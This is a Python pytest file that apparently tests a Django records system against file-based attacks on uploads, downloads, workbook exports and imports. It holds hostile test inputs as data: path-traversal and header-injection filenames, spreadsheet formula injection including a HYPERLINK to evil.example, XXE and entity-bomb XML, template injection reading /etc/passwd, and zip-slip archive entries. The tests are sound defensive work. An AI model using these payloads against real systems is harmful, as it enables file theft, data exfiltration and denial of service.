"""Attacks with files: their names, what is inside them, where they lie, and what leaves in them."""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path
from typing import Any

import pikepdf
import pytest
import xlsxwriter
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile

from hoso import audit
from hoso.accounts.models import Account, Grant
from hoso.changes.models import Evidence
from hoso.exchange import services as exchange
from hoso.exchange.models import Export, Load
from hoso.reports import services as reports
from hoso.reports.models import YearlyReport
from tests import builders
from tests.dossiers.office import crowd
from tests.house.knocking import address_of, readable, values_of
from tests.house.viewers import Walk
from tests.web.test_no_server_errors import paths
from tests.web.test_strangers import of_report

pytestmark = pytest.mark.django_db

TYPST = '#read("/etc/passwd") #panic("x") $x$ @ref <label> \\u{41} ``` #include "x.typ"'
FORMULA = '=HYPERLINK("http://evil.example?"&A1,"x")'
TRIGGERS = (FORMULA, "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "＝1+1")
NAMES = (
    "../../../../etc/passwd.pdf", "..\\..\\windows\\system32\\x.pdf", "/etc/cron.d/x.pdf",
    "a\0b.pdf", "a\r\nX-Evil: 1.pdf", '"; filename="evil.html".pdf', "x.pdf/../../x.html",
    "\u202efdp.exe.pdf", "x" * 300 + ".pdf", "C:\\x.pdf", "a;b.pdf", "%2e%2e%2fx.pdf", ".pdf",
    "<script>x9()</script>.pdf",
)  # fmt: skip
BOOK = {
    "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"/>',
    "xl/workbook.xml": "<workbook/>",
}


def attached(client: Any, name: str, content: bytes) -> Any:
    """Sent with a row of one's own dossier, as the page does."""
    typed = {**builders.TYPED["schooling"], "do": "attach", "mc-loai": "cv_paper", "mc-so": "1",
             "mc-tep": SimpleUploadedFile("x.pdf", content, "application/pdf")}  # fmt: skip
    typed["mc-tep"].name = name
    typed["mc-tep"]._name = name
    return client.post("/ho-so-cua-toi/muc/19", typed)


@pytest.mark.parametrize("name", NAMES)
def test_a_trick_in_the_name_of_a_scan_is_only_a_name(scene: Walk, name: str) -> None:
    """Sent in, lying under its hash alone, and taken out again."""
    client, files = scene.clients["colleague"], Path(settings.FILES_DIR)
    outside = {each for each in files.parent.glob("*") if each != files}
    answer = attached(client, name, builders.make_pdf(name).read())
    assert answer.status_code in (302, 422), "taken, or refused at its field"
    assert {each for each in files.parent.glob("*") if each != files} == outside
    lying = [each.name for each in files.rglob("*") if each.is_file()]
    assert [each for each in lying if re.fullmatch(r"[0-9a-f]{64}(\.\w+)?", each) is None] == []
    person = scene.world.strangers["another person"].person
    for scan in Evidence.objects.filter(person=person):
        taken = client.get(f"/minh-chung/{scan.pk}")
        head = taken["Content-Disposition"]
        assert taken.status_code == 200 and head.startswith("attachment")
        assert "\r" not in head and "\n" not in head and "X-Evil" not in taken.headers
        assert "/" not in scan.file.name and "\\" not in scan.file.name
        assert "\u202e" not in scan.file.name


@pytest.mark.parametrize("content", [
    b"<html><script>x9()</script></html>",
    b"<svg xmlns='http://www.w3.org/2000/svg' onload='x()'/>",
    b"MZ\x90\x00" + b"\0" * 64,
    b"\x7fELF" + b"\0" * 64,
    b"#!/bin/sh\nid\n",
    b"GIF89a<script>x</script>",
    b"%PDF-1.7\n<html><script>x9()</script>",
    b"PK\x03\x04" + b"\0" * 64,
    b"%!PS\n(/etc/passwd) run",
], ids=["html", "svg", "exe", "elf", "shell", "gif", "pdf-html", "zip", "postscript"])  # fmt: skip
def test_another_kind_of_file_under_the_name_of_a_scan_is_refused(
    scene: Walk, content: bytes
) -> None:
    before = Evidence.objects.count()
    answer = attached(scene.clients["colleague"], "bang.pdf", content)
    assert answer.status_code == 422 and Evidence.objects.count() == before


def test_a_scan_with_a_script_or_a_file_in_it_reaches_nobody(scene: Walk) -> None:
    """Either refused, or written anew without them."""
    document = pikepdf.new()
    document.add_blank_page()
    document.Root.OpenAction = pikepdf.Dictionary(
        S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")
    )
    document.attachments["x.exe"] = b"MZ"
    content = io.BytesIO()
    document.save(content)
    answer = attached(scene.clients["colleague"], "bang.pdf", content.getvalue())
    person = scene.world.strangers["another person"].person
    kept_ones = Evidence.objects.filter(person=person)
    assert answer.status_code == (302 if kept_ones else 422)
    for scan in kept_ones:
        with scan.file.open() as file, pikepdf.open(io.BytesIO(file.read())) as kept:
            assert "/OpenAction" not in kept.Root and not kept.attachments


def test_a_scan_is_never_shown_as_a_page_of_ours(scene: Walk) -> None:
    client, world = scene.clients["officer@agency"], scene.world
    for address in (f"/minh-chung/{world.evidence.pk}", f"/minh-chung/{world.evidence.pk}?xem"):
        answer = client.get(address)
        assert answer["X-Content-Type-Options"] == "nosniff"
        assert "no-store" in answer["Cache-Control"]
        is_saved = answer["Content-Disposition"].startswith("attachment")
        assert is_saved or "sandbox" in answer["Content-Security-Policy"]


@pytest.mark.parametrize("path", [
    "../config/settings.py", "%2e%2e/config/settings.py", "..%2f..%2fetc/passwd",
    "....//....//etc/passwd", "%5c..%5c..%5cetc%5cpasswd", "/etc/passwd", "css/%00.css",
    "css/../../../../etc/passwd", "admin/../../settings.py",
])  # fmt: skip
def test_no_path_leads_out_of_the_folder_of_static_files(scene: Walk, path: str) -> None:
    for base in ("/static/", "/minh-chung/", "/ban-in/", "/xuat/", "/nhat-ky/moc/", "/media/"):
        for who in ("anonymous", "officer@agency"):
            answer = scene.clients[who].get(base + path)
            text = readable(answer)
            assert "root:" not in text and "SECRET_KEY" not in text and "ROOT_URLCONF" not in text
            assert answer.status_code in (302, 400, 404), (base, who)


def test_no_workbook_holds_a_formula_that_somebody_typed(scene: Walk) -> None:
    """People named like formulas, in every workbook that leaves the system: lists, exports, boards,
    rankings, reports, the log."""
    here, found = scene.world.here, []
    crowd(here.division, *TRIGGERS)
    officer = Account.objects.get(pk=here.officer.pk)
    exchange.request_export(here.unit, "cv", FORMULA, by=officer)
    made = Export.objects.filter(by=officer, state="waiting").latest("asked_at")
    exchange.export(made.pk)
    addresses = {name: address_of(name, path, values_of(scene.world, name)) for name, path in
                 paths()}  # fmt: skip
    addresses["exchange:export-part"] = f"/xuat/{made.pk}/1"
    addresses["people:list-sheet"] = "/ho-so/xuat-danh-sach"
    for name, address in addresses.items():
        if not re.search(r"sheet|workbook|export-part|take|template|marked", name):
            continue
        for who in ("officer@agency", "head@agency", "home-affairs", "administrator"):
            for method in ("get", "post"):
                with builders.undone():
                    form = {"ly-do": FORMULA, "reason": FORMULA}
                    answer = getattr(scene.clients[who], method)(address, form)
                    content = b"".join(answer) if answer.streaming else answer.content
                if zipfile.is_zipfile(io.BytesIO(content)):
                    found.append(name)
                    assert formulas(content) == [], (name, who)
    assert set(found) >= {"people:list-sheet", "deadlines:board-workbook", "exchange:export-part",
                          "reports:workbook", "log:take"}  # fmt: skip


def formulas(content: bytes) -> list[str]:
    """What a spreadsheet would calculate, follow or ask another site for."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        names = book.namelist()
        cells = "".join(book.read(name).decode() for name in names if "worksheets/sheet" in name)
    linked = [name for name in names if "externalLink" in name or "vbaProject" in name]
    return linked + re.findall(r"<f[ >/].{0,60}", cells) + re.findall(r"<hyperlink .{0,60}", cells)


@pytest.mark.parametrize("kind", ["pdf", "docx"])
def test_what_is_typed_in_a_report_is_no_program_of_its_print(scene: Walk, kind: str) -> None:
    """Typst, Jinja and XML written into the text come out as text."""
    typed = TYPST + " {{ 7*7 }} {% for x in y %} <w:t>&x;</w:t> ]]>"
    pk = of_report(scene.world)["pk"]
    report = YearlyReport.objects.get(pk=pk)
    reports.save(pk, {"rules": typed}, revision=report.revision, by=scene.world.here.officer)
    answer = scene.clients["officer@agency"].get(f"/bao-cao-nam/{pk}.{kind}")
    text = readable(answer)
    assert answer.status_code == 200 and "root:x:0" not in text
    assert "49" not in re.sub(r"\s", "", text.split("7*7")[0][-10:])
    assert "/etc/passwd" in text.replace("\n", "") and "7*7" in text.replace(" ", "")


def test_words_that_are_a_program_of_the_print_are_printed(scene: Walk) -> None:
    own = scene.world.strangers["another person"]
    someone = builders.Someone(own.person, own)
    builders.fill(someone, "training", attached=False, institution='#read("/etc/passwd") $x$')
    answer = scene.clients["colleague"].get("/ban-in/ban-nhap")
    text = readable(answer)
    assert answer.status_code == 200 and answer["Content-Type"] == "application/pdf"
    assert "root:x:0" not in text and "/etc/passwd" in text and "$x$" in text


def packed(parts: dict[str, str]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return made.getvalue()


def real_book(
    tmp_path: Path, change: dict[str, str] | None = None, **inner: tuple[str, str]
) -> bytes:
    """A template filled with a row; some of its parts replaced by hand."""
    path = tmp_path / "a.xlsx"
    book = xlsxwriter.Workbook(str(path))
    book.add_worksheet("A").write(0, 0, "GIỮ CHỖ")
    book.close()
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist()}
    for name, (old, new) in inner.items():
        [real] = [each for each in parts if each.endswith(name.replace("_", ".", 1))]
        assert old in parts[real]
        parts[real] = parts[real].replace(old, new)
    return packed({**parts, **(change or {})})


def brought_in(scene: Walk, content: bytes, name: str = "a.xlsx") -> Any:
    form = {"unit": str(scene.world.here.unit.pk), "file": SimpleUploadedFile(name, content)}
    return scene.clients["officer@agency"].post("/nap/moi", form)


DOCTYPE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
LAUGHS = "<!DOCTYPE x [" + '<!ENTITY a "ha ha ha ha ha ha">' + "".join(
    f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)
) + "]>"  # fmt: skip


@pytest.mark.parametrize(("head", "entity"), [(DOCTYPE, "&e;"), (LAUGHS, "&i;")],
                         ids=["file", "laughs"])  # fmt: skip
def test_an_entity_in_a_workbook_reads_no_file_and_grows_to_nothing(
    scene: Walk, tmp_path: Path, head: str, entity: str
) -> None:
    content = real_book(tmp_path, sharedStrings_xml=("GIỮ CHỖ", entity))
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = {name: archive.read(name).decode() for name in archive.namelist()}
    shared = parts["xl/sharedStrings.xml"]
    declaration, rest = shared.split("?>", 1)
    parts["xl/sharedStrings.xml"] = f"{declaration}?>{head}{rest}"
    answer = brought_in(scene, packed(parts))
    assert answer.status_code == 422, "no form of ours, or no sound workbook"
    assert "root:" not in readable(answer) and "ha ha ha" not in readable(answer)


@pytest.mark.parametrize(("name", "content"), [
    ("xl/vbaProject.bin", "x"), ("xl/embeddings/oleObject1.bin", "x"),
    ("../../etc/cron.d/x", "x"), ("/etc/x", "x"), ("xl/externalLinks/externalLink1.xml",
     '<externalLink><ddeLink ddeService="cmd"/></externalLink>'),
])  # fmt: skip
def test_a_workbook_with_a_stowaway_is_refused_or_its_stowaway_left_alone(
    scene: Walk, tmp_path: Path, name: str, content: str
) -> None:
    before, loads = set(Path("/tmp").glob("x*")), Load.objects.count()
    answer = brought_in(scene, real_book(tmp_path, {name: content}))
    assert answer.status_code == 422 and Load.objects.count() == loads
    assert set(Path("/tmp").glob("x*")) == before
    assert not Path("/etc/cron.d/x").exists() and not Path("/etc/x").exists()


def test_a_package_with_a_path_in_it_writes_nowhere_else(scene: Walk, tmp_path: Path) -> None:
    book = real_book(tmp_path)
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("ho-so.xlsx", book)
        for name in ("../evil.jpg", "/tmp/evil-hoso.jpg", "anh/../../evil.jpg", "a\\..\\evil.jpg"):
            archive.writestr(name, b"\xff\xd8\xff")
    answer = brought_in(scene, made.getvalue(), "a.zip")
    assert answer.status_code == 422
    data = Path(settings.DATA_DIR)
    assert not list(data.rglob("*evil*")) and not list(data.parent.glob("*evil*"))
    assert not Path("/tmp/evil-hoso.jpg").exists()


def test_a_number_too_large_for_a_file_part_is_not_found(scene: Walk) -> None:
    made = Export.objects.filter(written__gt=0).first()
    assert made is not None
    for part in (0, 2, 10**6, 10**40):
        assert scene.clients["officer@agency"].get(f"/xuat/{made.pk}/{part}").status_code == 404


def test_an_export_of_another_account_is_not_taken(scene: Walk) -> None:
    """Also not by who might have asked for the very same."""
    made = Export.objects.filter(written__gt=0).first()
    assert made is not None
    for who in (
        "officer@above",
        "officer@division",
        "home-affairs",
        "officer@other",
        "head@agency",
    ):
        answer = scene.clients[who].get(f"/xuat/{made.pk}/1")
        assert answer.status_code in (403, 404), who


def test_an_export_is_not_taken_once_the_right_has_ended(scene: Walk) -> None:
    made = Export.objects.filter(written__gt=0).first()
    assert made is not None
    client = scene.clients["officer@agency"]
    assert client.get(f"/xuat/{made.pk}/1").status_code == 200
    with audit.recording("tests", "accounts.revoke"):
        Grant.objects.filter(account=made.by).delete()
    assert client.get(f"/xuat/{made.pk}/1").status_code in (403, 404)


def test_an_export_asked_for_before_the_right_ended_holds_nobody(scene: Walk) -> None:
    """Who is in it is asked again when it is written."""
    here = scene.world.here
    officer = Account.objects.get(pk=here.officer.pk)
    exchange.request_export(here.unit, "cv", "Rà soát hồ sơ", by=officer)
    made = Export.objects.filter(by=officer, state="waiting").latest("asked_at")
    with audit.recording("tests", "accounts.revoke"):
        Grant.objects.filter(account=officer).delete()
    exchange.export(made.pk)
    made.refresh_from_db()
    text = "".join(
        readable(_Read(made.part_path(part).read_bytes())) for part in range(1, made.written + 1)
    )
    assert [each for each in scene.world.secrets if each in text] == []


class _Read:
    """A file as if it had been answered."""

    streaming = False

    def __init__(self, content: bytes) -> None:
        self.content = content

    def items(self) -> list[tuple[str, str]]:
        return []
